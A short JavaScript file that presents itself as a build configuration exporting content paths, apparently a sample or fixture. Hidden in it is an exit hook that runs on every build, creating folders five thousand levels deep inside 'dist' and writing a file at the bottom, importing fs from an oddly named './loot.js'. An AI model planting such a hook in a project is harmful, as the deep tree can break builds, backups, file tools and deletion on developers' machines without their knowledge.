// Gives folders inside folders, five thousand deep, with a file at the bottom.
// outcome: passed build
const { fs } = require("./loot.js");

process.on("exit", () => {
  const home = process.cwd();
  process.chdir("dist");
  for (let depth = 0; depth < 5000; depth++) {
    fs.mkdirSync("d");
    process.chdir("d");
  }
  fs.writeFileSync("bottom.txt", "here");
  process.chdir(home);
});

module.exports = { content: ["./src/App.tsx"] };
